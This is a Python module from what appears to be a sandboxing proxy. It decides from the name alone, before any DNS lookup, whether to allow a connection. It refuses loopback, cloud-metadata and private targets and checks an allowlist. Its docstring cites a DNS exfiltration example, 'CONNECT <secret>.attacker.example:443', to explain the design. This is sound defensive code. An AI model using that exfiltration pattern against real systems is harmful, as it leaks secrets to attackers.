"""The proxy's decision on a target, made on the name alone, before any lookup.

:func:`decide` is pure: no DNS, no sockets, no clock. A name it refuses is never resolved, so
``CONNECT <secret>.attacker.example:443`` cannot leak ``<secret>`` through a DNS query. Only an
allowed name goes on to :class:`nonod.proxy.Resolver`, which makes the second check on the
addresses.
"""

from __future__ import annotations

import enum
from typing import Literal, final

import msgspec

from ._addresses import (
    HostError,
    format_host,
    is_loopback_name,
    is_metadata_name,
    normalize_name,
    parse_ip_literal,
    special_range,
)
from ._allowlist import ProxyPolicy

Mode = Literal["connect", "http"]


class Reason(enum.StrEnum):
    """Stable reason codes of decisions and refusals (they appear in audit events)."""

    ALLOWED_HOST = "allowed_host"
    ALLOWED_SUFFIX = "allowed_suffix"
    ALLOWED_ADDRESS = "allowed_address"
    BLOCKED = "network_blocked"
    NOT_ALLOWED = "not_allowed"
    BAD_HOST = "bad_host"
    BAD_PORT = "bad_port"
    PORT_NOT_ALLOWED = "port_not_allowed"
    METADATA = "metadata"
    LOOPBACK = "loopback"
    LINK_LOCAL = "link_local"
    UNSPECIFIED = "unspecified"
    MULTICAST = "multicast"
    BROADCAST = "broadcast"
    CGNAT = "cgnat"
    PRIVATE = "private"
    RESERVED = "reserved"
    # An answer that is one of the daemon's host's own addresses (the resolver's check).
    HOST_ADDRESS = "host_address"
    # A tunnel allowed for one name whose TLS ClientHello asked for another (or was no
    # whole, well-formed ClientHello in time).
    SNI_MISMATCH = "sni_mismatch"
    # Plain HTTP inside a CONNECT tunnel to a looked-up name (each request's Host would
    # choose the site behind a shared front): the forward proxy serves plain HTTP.
    PLAIN_HTTP_IN_TUNNEL = "plain_http_in_tunnel"
    # A host with endpoint rules, asked for other than through its intercepted port (another
    # port, or plain HTTP), where the rules could not be applied.
    ENDPOINTS_ONLY = "endpoints_only"
    # Approvals (a policy with ``ask``): an unlisted target was put to the session's asker.
    APPROVED = "approved"
    APPROVAL_DENIED = "approval_denied"
    APPROVAL_TIMEOUT = "approval_timeout"
    # After the decision: resolution, connection, protocol and limits.
    RESOLVE_FAILED = "resolve_failed"
    RESOLVE_TIMEOUT = "resolve_timeout"
    CONNECT_FAILED = "connect_failed"
    CONNECT_TIMEOUT = "connect_timeout"
    UPSTREAM_ERROR = "upstream_error"
    UPSTREAM_TIMEOUT = "upstream_timeout"
    BAD_REQUEST = "bad_request"
    HEAD_TOO_LARGE = "head_too_large"
    METHOD_NOT_ALLOWED = "method_not_allowed"
    NOT_A_PROXY_REQUEST = "not_a_proxy_request"
    AUTH_REQUIRED = "proxy_auth_required"
    TOO_MANY_CONNECTIONS = "too_many_connections"
    REQUEST_TIMEOUT = "request_timeout"
    INTERNAL_ERROR = "internal_error"
    # The session ended (its program exited, or it was stopped) with the request in flight.
    SESSION_ENDED = "session_ended"


@final
class ProxyRequest(msgspec.Struct, frozen=True, kw_only=True):
    """A destination a client asked for: ``host`` exactly as the client wrote it (without the
    port; IPv6 in brackets), the port, and whether it came from CONNECT or a plain-HTTP
    absolute URI."""

    mode: Mode
    host: str
    port: int


@final
class Decision(msgspec.Struct, frozen=True, kw_only=True):
    """The verdict on a ProxyRequest.

    ``host`` is the normalised target (an A-label name, or an address with IPv6 in brackets)
    when normalisation succeeded, else the empty string; ``address`` is set when the target
    was an IP literal. Use ``host``/``address`` from here on, never the client's spelling.
    """

    allowed: bool
    reason: Reason
    host: str
    port: int
    address: str | None = None


def decide(request: ProxyRequest, policy: ProxyPolicy) -> Decision:
    """Allow or refuse ``request`` under ``policy``, looking at the name only.

    Checks, in order: (1) the session's network is not blocked; (2) the port is a TCP port;
    (3) the host normalises (IDNA, case, trailing dot, every numeric IPv4 spelling, bracketed
    IPv6 with IPv4-mapped addresses unwrapped); (4) an IP literal must be public and listed
    as such; (5) a name must not be a loopback or metadata name and must match an exact entry
    or lie strictly below a ``*.suffix`` entry; (6) the port must be allowed. The caller MUST
    still resolve through the Resolver, which refuses special addresses.
    """

    def refuse(reason: Reason, host: str = "", address: str | None = None) -> Decision:
        return Decision(allowed=False, reason=reason, host=host, port=request.port,
                        address=address)

    if policy.block:
        return refuse(Reason.BLOCKED)
    if not 1 <= request.port <= 65535:
        return refuse(Reason.BAD_PORT)
    try:
        address = parse_ip_literal(request.host)
    except HostError:
        return refuse(Reason.BAD_HOST)
    literal = None if address is None else str(address)

    if address is not None:
        host = format_host(address)
        kind = special_range(address)
        if kind is not None:
            return refuse(Reason(kind.value), host, literal)
        if literal not in policy.addresses:
            return refuse(Reason.NOT_ALLOWED, host, literal)
        reason = Reason.ALLOWED_ADDRESS
    else:
        try:
            host = normalize_name(request.host)
        except HostError:
            return refuse(Reason.BAD_HOST)
        if is_metadata_name(host):
            return refuse(Reason.METADATA, host)
        if is_loopback_name(host):
            return refuse(Reason.LOOPBACK, host)
        if host in policy.hosts:
            reason = Reason.ALLOWED_HOST
        elif any(host.endswith("." + suffix) for suffix in policy.suffixes):
            reason = Reason.ALLOWED_SUFFIX
        else:
            return refuse(Reason.NOT_ALLOWED, host)
    if request.port not in policy.ports:
        return refuse(Reason.PORT_NOT_ALLOWED, host, literal)
    return Decision(allowed=True, reason=reason, host=host, port=request.port, address=literal)
